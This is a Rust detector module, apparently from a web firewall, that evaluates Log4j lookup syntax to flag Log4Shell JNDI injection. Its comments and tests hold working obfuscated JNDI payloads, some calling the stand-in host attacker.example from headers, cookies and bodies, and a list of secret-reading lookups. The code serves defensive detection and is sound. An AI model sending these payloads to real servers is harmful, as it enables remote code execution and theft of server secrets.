//! Log4Shell-style JNDI lookups (class `jndi`).
//!
//! Log4j 2 substitutes `${prefix:name:-default}` lookups in logged text,
//! resolving nested lookups first, so `${${lower:j}ndi:ldap://h/a}` and
//! `${${::-j}${::-n}${::-d}${::-i}:rmi://h/a}` reach the `jndi` lookup as
//! surely as the plain form. This module is a small evaluator of that syntax:
//! it resolves the obfuscation lookups an attacker controls (`lower`,
//! `upper`, `date`, defaults of unknown lookups, `::-`), leaves lookups whose
//! value only the server knows (`env`, `sys`, ...) to their default, and
//! judges the lookups that result.
//!
//! Rules:
//! - `jndi.lookup` (10): a lookup that resolves to `jndi:` with a naming
//!   scheme (`ldap`, `ldaps`, `rmi`, `dns`, `iiop`, `corba`, `nds`, `nis`,
//!   `http`, `https`) or any `${jndi:` lookup at all.
//! - `jndi.url` (8): a bare `jndi:<scheme>://` URL outside a lookup (what is
//!   left when an encoding the engine does not undo hides the `${`).
//! - `jndi.obfuscated_lookup` (6 in headers, 4 elsewhere): nested or
//!   transforming lookups (`${lower:..}`, `${::-x}`, `${${...}}`) that do not
//!   resolve to `jndi`; Log4j-only syntax with no benign use in a request.
//! - `jndi.exfil_lookup` (5 in headers, 3 elsewhere): a lookup of server
//!   secrets (`${env:..}`, `${sys:..}`, `${java:..}`, ...) outside `jndi`.
//!
//! The evaluator is a single pass over the value with an explicit stack of
//! open `${` frames (bounded depth), so it is linear in the value and never
//! recurses; resolved text is re-scanned at most [`MAX_PASSES`] times, as
//! Log4j re-substitutes the values lookups return.

use super::{Ctx, Hit};
use crate::config::Sensitivity;
use crate::search;
use crate::search::find_ci;
use crate::verdict::Part;

/// Nesting depth of `${` frames resolved; deeper openings are literal text.
const MAX_DEPTH: usize = 16;
/// Re-substitution passes over resolved text.
const MAX_PASSES: usize = 3;
/// Bytes of a value the evaluator reads; a lookup longer than this is not a
/// realistic logged message and its tail is checked by the `jndi:` scan.
const MAX_EVAL: usize = 64 * 1024;
/// Output bytes one `date` lookup may produce.
const MAX_DATE_OUT: usize = 64;

/// Naming schemes a JNDI lookup can reach a remote server through.
const SCHEMES: [&[u8]; 10] = [
    b"ldaps", b"ldap", b"rmi", b"dns", b"iiop", b"corba", b"nds", b"nis", b"https", b"http",
];

/// Lookups that read server secrets or environment.
const EXFIL: [&[u8]; 10] = [
    b"env",
    b"sys",
    b"java",
    b"main",
    b"ctx",
    b"jvmrunargs",
    b"spring",
    b"k8s",
    b"docker",
    b"bundle",
];

/// Lookups that only transform their argument (an evasion when nested).
const TRANSFORM: [&[u8]; 4] = [b"lower", b"upper", b"date", b"base64"];

pub(crate) fn detect(value: &[u8], ctx: &Ctx) -> Option<Hit> {
    let hit = detect_any(value, ctx)?;
    // At low sensitivity only unambiguous findings are reported.
    (ctx.sensitivity != Sensitivity::Low || hit.score >= 10).then_some(hit)
}

fn detect_any(value: &[u8], ctx: &Ctx) -> Option<Hit> {
    // Fast reject: a lookup needs `${`; a bare JNDI URL needs `jndi:`.
    let dollar = memchr::memchr(b'$', value).is_some();
    let colon = memchr::memchr(b':', value).is_some();
    if !colon {
        return None;
    }
    let mut best: Option<Hit> = None;
    if dollar && memchr::memchr(b'{', value).is_some() {
        best = evaluate(value, ctx);
        if best.as_ref().is_some_and(|h| h.score >= 10) {
            return best;
        }
    }
    if let Some(span) = bare_url(value) {
        let hit = Hit {
            rule: "jndi.url",
            score: 8,
            span,
        };
        if best.as_ref().is_none_or(|b| b.score < hit.score) {
            best = Some(hit);
        }
    }
    best
}

/// `jndi:<scheme>:` anywhere, case-insensitively.
fn bare_url(value: &[u8]) -> Option<std::ops::Range<usize>> {
    let mut from = 0;
    while let Some(i) = find_ci(&value[from..], b"jndi:") {
        let at = from + i;
        let rest = &value[at + 5..];
        if let Some(len) = scheme_len(rest) {
            return Some(at..at + 5 + len);
        }
        from = at + 5;
    }
    None
}

/// Length of a JNDI scheme plus its `:` at the start of `s`.
fn scheme_len(s: &[u8]) -> Option<usize> {
    SCHEMES.iter().find_map(|sch| {
        (s.len() > sch.len() && s[..sch.len()].eq_ignore_ascii_case(sch) && s[sch.len()] == b':')
            .then_some(sch.len() + 1)
    })
}

/// What the evaluator saw.
#[derive(Default)]
struct Seen {
    jndi: Option<(usize, usize, bool)>,
    nested: Option<(usize, usize)>,
    exfil: Option<(usize, usize)>,
}

fn evaluate(value: &[u8], ctx: &Ctx) -> Option<Hit> {
    let value = &value[..value.len().min(MAX_EVAL)];
    let mut seen = Seen::default();
    let mut text = resolve(value, true, &mut seen);
    let mut pass = 1;
    while seen.jndi.is_none() && pass < MAX_PASSES && text != value && contains_open(&text) {
        let next = resolve(&text, false, &mut seen);
        if next == text {
            break;
        }
        text = next;
        pass += 1;
    }
    if seen.jndi.is_none() {
        // An unterminated `${jndi:` still reaches the lookup when the rest
        // of the message closes it.
        if let Some(i) = find_ci(&text, b"${jndi:") {
            let span = if text.len() == value.len() {
                i..i + 7
            } else {
                0..value.len()
            };
            seen.jndi = Some((span.start, span.end, true));
        }
    }
    let header = ctx.part == Part::Header;
    if let Some((s, e, _)) = seen.jndi {
        return Some(Hit {
            rule: "jndi.lookup",
            score: 10,
            span: s..e,
        });
    }
    if let Some((s, e)) = seen.nested {
        return Some(Hit {
            rule: "jndi.obfuscated_lookup",
            score: if header { 6 } else { 4 },
            span: s..e,
        });
    }
    if let Some((s, e)) = seen.exfil {
        return Some(Hit {
            rule: "jndi.exfil_lookup",
            score: if header { 5 } else { 3 },
            span: s..e,
        });
    }
    None
}

fn contains_open(s: &[u8]) -> bool {
    search::find(s, b"${").is_some()
}

/// One open `${` frame: where it started in the input and what its content
/// resolved to so far.
struct Frame {
    start: usize,
    buf: Vec<u8>,
    /// A lookup was resolved inside this frame.
    has_inner: bool,
}

/// One substitution pass. Spans recorded in `seen` refer to `input` only on
/// the first pass (`first`); later passes report the whole value.
fn resolve(input: &[u8], first: bool, seen: &mut Seen) -> Vec<u8> {
    let mut out: Vec<u8> = Vec::with_capacity(input.len());
    let mut stack: Vec<Frame> = Vec::new();
    let mut i = 0;
    while i < input.len() {
        let b = input[i];
        if b == b'$' && input.get(i + 1) == Some(&b'{') && stack.len() < MAX_DEPTH {
            stack.push(Frame {
                start: i,
                buf: Vec::new(),
                has_inner: false,
            });
            i += 2;
            continue;
        }
        if b == b'}' {
            if let Some(frame) = stack.pop() {
                let end = i + 1;
                let span = if first {
                    (frame.start, end)
                } else {
                    (0, input.len())
                };
                let value = lookup(&frame.buf, frame.has_inner, span, seen);
                match stack.last_mut() {
                    Some(parent) => {
                        parent.buf.extend_from_slice(&value);
                        parent.has_inner = true;
                    }
                    None => out.extend_from_slice(&value),
                }
                i = end;
                continue;
            }
        }
        match stack.last_mut() {
            Some(f) => f.buf.push(b),
            None => out.push(b),
        }
        i += 1;
    }
    // Unclosed frames are literal text, outermost first.
    let mut tail = Vec::new();
    for f in stack {
        tail.extend_from_slice(b"${");
        tail.extend_from_slice(&f.buf);
    }
    out.extend_from_slice(&tail);
    out
}

/// Resolves one lookup whose (already substituted) content is `content`.
fn lookup(content: &[u8], has_inner: bool, span: (usize, usize), seen: &mut Seen) -> Vec<u8> {
    let (name, default) = match search::find(content, b":-") {
        Some(p) => (&content[..p], Some(&content[p + 2..])),
        None => (content, None),
    };
    let (prefix, arg) = match memchr::memchr(b':', name) {
        Some(p) => (&name[..p], Some(&name[p + 1..])),
        None => (name, None),
    };
    let lower = prefix.to_ascii_lowercase();
    if lower == b"jndi" {
        if seen.jndi.is_none() {
            let url = arg.unwrap_or_default();
            seen.jndi = Some((span.0, span.1, scheme_len(url).is_some()));
        }
        // What the server would fetch is unknown; keep the text.
        return wrap(content);
    }
    let transform = arg.is_some() && TRANSFORM.iter().any(|t| **t == lower[..]);
    let exfil = arg.is_some() && EXFIL.iter().any(|t| **t == lower[..]);
    if (has_inner || transform || (prefix.is_empty() && default.is_some())) && seen.nested.is_none()
    {
        seen.nested = Some(span);
    }
    if exfil && seen.exfil.is_none() {
        seen.exfil = Some(span);
    }
    match (arg, lower.as_slice()) {
        (Some(a), b"lower") => a.to_ascii_lowercase(),
        (Some(a), b"upper") => upper(a),
        (Some(a), b"date") => date(a),
        (Some(a), b"base64") => base64(a).unwrap_or_else(|| wrap(content)),
        _ => match default {
            Some(d) => d.to_vec(),
            // Log4j leaves an unresolvable lookup as it was written.
            None => wrap(content),
        },
    }
}

/// Standard or URL-safe base64, padding optional; `None` when invalid.
fn base64(s: &[u8]) -> Option<Vec<u8>> {
    let s = s.trim_ascii();
    let s = s
        .strip_suffix(b"==")
        .or_else(|| s.strip_suffix(b"="))
        .unwrap_or(s);
    let mut out = Vec::with_capacity(s.len() * 3 / 4);
    let (mut acc, mut bits) = (0u32, 0u32);
    for &c in s {
        let v = match c {
            b'A'..=b'Z' => c - b'A',
            b'a'..=b'z' => c - b'a' + 26,
            b'0'..=b'9' => c - b'0' + 52,
            b'+' | b'-' => 62,
            b'/' | b'_' => 63,
            _ => return None,
        };
        acc = (acc << 6) | u32::from(v);
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
            acc &= (1 << bits) - 1;
        }
    }
    Some(out)
}

/// Java's `toUpperCase`, which also maps the dotless `ı` to `I` and the long
/// `ſ` to `S` (a known evasion: `${upper:ı}` is `I`).
fn upper(s: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(s.len());
    let mut i = 0;
    while i < s.len() {
        match (s[i], s.get(i + 1)) {
            (0xC4, Some(0xB1)) => {
                out.push(b'I');
                i += 2;
            }
            (0xC5, Some(0xBF)) => {
                out.push(b'S');
                i += 2;
            }
            (b, _) => {
                out.push(b.to_ascii_uppercase());
                i += 1;
            }
        }
    }
    out
}

fn wrap(content: &[u8]) -> Vec<u8> {
    let mut v = Vec::with_capacity(content.len() + 3);
    v.extend_from_slice(b"${");
    v.extend_from_slice(content);
    v.push(b'}');
    v
}

/// A `SimpleDateFormat` pattern: quoted text literally, pattern letters as a
/// digit, everything else as written.
fn date(pattern: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut i = 0;
    while i < pattern.len() && out.len() < MAX_DATE_OUT {
        let b = pattern[i];
        if b == b'\'' {
            if pattern.get(i + 1) == Some(&b'\'') {
                out.push(b'\'');
                i += 2;
                continue;
            }
            let rest = &pattern[i + 1..];
            let end = memchr::memchr(b'\'', rest).unwrap_or(rest.len());
            out.extend_from_slice(&rest[..end]);
            i += end + 2;
            continue;
        }
        out.push(if b.is_ascii_alphabetic() { b'0' } else { b });
        i += 1;
    }
    out.truncate(MAX_DATE_OUT);
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::Sensitivity;

    fn ctx(part: Part) -> Ctx {
        Ctx {
            part,
            key: false,
            sensitivity: Sensitivity::Default,
        }
    }

    fn score(v: &str, part: Part) -> u32 {
        detect(v.as_bytes(), &ctx(part)).map_or(0, |h| h.score)
    }

    /// Each non-comment line of `testdata/jndi/attacks.txt` is an attack:
    /// in a header it must reach the default threshold of 5.
    #[test]
    fn attacks() {
        for line in include_str!("../../../testdata/jndi/attacks.txt").lines() {
            if line.is_empty() || line.starts_with('#') {
                continue;
            }
            for part in [Part::Header, Part::Query] {
                let s = score(line, part);
                let min = if part == Part::Header { 5 } else { 3 };
                assert!(s >= min, "missed ({part:?}, {s}): {line}");
            }
        }
    }

    #[test]
    fn benign() {
        for line in include_str!("../../../testdata/jndi/benign.txt").lines() {
            if line.is_empty() || line.starts_with('#') {
                continue;
            }
            for part in [Part::Header, Part::Query, Part::Json] {
                let s = score(line, part);
                assert!(s < 5, "false positive ({part:?}, {s}): {line}");
            }
        }
    }

    #[test]
    fn nested_lookups_resolve() {
        for v in [
            "${${lower:j}ndi:ldap://h/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://h/a}",
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://h/a}",
            "${${upper:j}NDI:dns://h}",
            "${j${k8s:k5:-ND}i:ldap://h}",
            "${${date:'j'}ndi:ldap://h}",
        ] {
            let h = detect(v.as_bytes(), &ctx(Part::Query)).unwrap();
            assert_eq!(h.rule, "jndi.lookup", "{v}");
            assert_eq!(h.score, 10, "{v}");
        }
    }

    /// The same lookups in every place a server reads, through the engine.
    #[test]
    fn placements() {
        use crate::{analyze, AttackClass, Request};
        let payloads = [
            "${jndi:ldap://attacker.example/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example/a}",
        ];
        for p in payloads {
            let enc: String = p
                .bytes()
                .map(|b| match b {
                    b'$' => "%24".to_string(),
                    b'{' => "%7B".to_string(),
                    b'}' => "%7D".to_string(),
                    b':' => "%3A".to_string(),
                    b'/' => "%2F".to_string(),
                    _ => (b as char).to_string(),
                })
                .collect();
            let json = format!(r#"{{"user":{{"name":"{p}"}}}}"#);
            let xml = format!("<a><b attr=\"{p}\">x</b></a>");
            let form = format!("q={enc}");
            let uri = format!("/?q={enc}");
            let cookie = format!("sid={enc}");
            let reqs = [
                Request::builder().uri(&uri).build(),
                Request::builder().uri("/").header("User-Agent", p).build(),
                Request::builder()
                    .uri("/")
                    .header("X-Api-Version", p)
                    .build(),
                Request::builder().uri("/").header("Referer", p).build(),
                Request::builder()
                    .uri("/")
                    .header("Cookie", &cookie)
                    .build(),
                Request::builder()
                    .method("POST")
                    .uri("/")
                    .header("Content-Type", "application/json")
                    .body(&json)
                    .build(),
                Request::builder()
                    .method("POST")
                    .uri("/")
                    .header("Content-Type", "application/xml")
                    .body(&xml)
                    .build(),
                Request::builder()
                    .method("POST")
                    .uri("/")
                    .header("Content-Type", "application/x-www-form-urlencoded")
                    .body(&form)
                    .build(),
            ];
            for r in &reqs {
                let v = analyze(r);
                assert!(
                    v.findings().iter().any(|f| f.class == AttackClass::Jndi),
                    "{p}: {}",
                    v.to_json()
                );
            }
        }
    }

    #[test]
    fn date_patterns() {
        assert_eq!(date(b"'j'"), b"j");
        assert_eq!(date(b"yyyy-MM"), b"0000-00");
        assert_eq!(date(b"''"), b"'");
    }

    #[test]
    fn hostile_inputs_are_bounded() {
        let deep = "${".repeat(100_000) + &"}".repeat(100_000);
        let _ = detect(deep.as_bytes(), &ctx(Part::Body));
        let wide = "${a:-${b}}".repeat(100_000);
        let _ = detect(wide.as_bytes(), &ctx(Part::Body));
        let big = vec![b'$'; 1 << 20];
        assert!(detect(&big, &ctx(Part::Body)).is_none());
    }
}
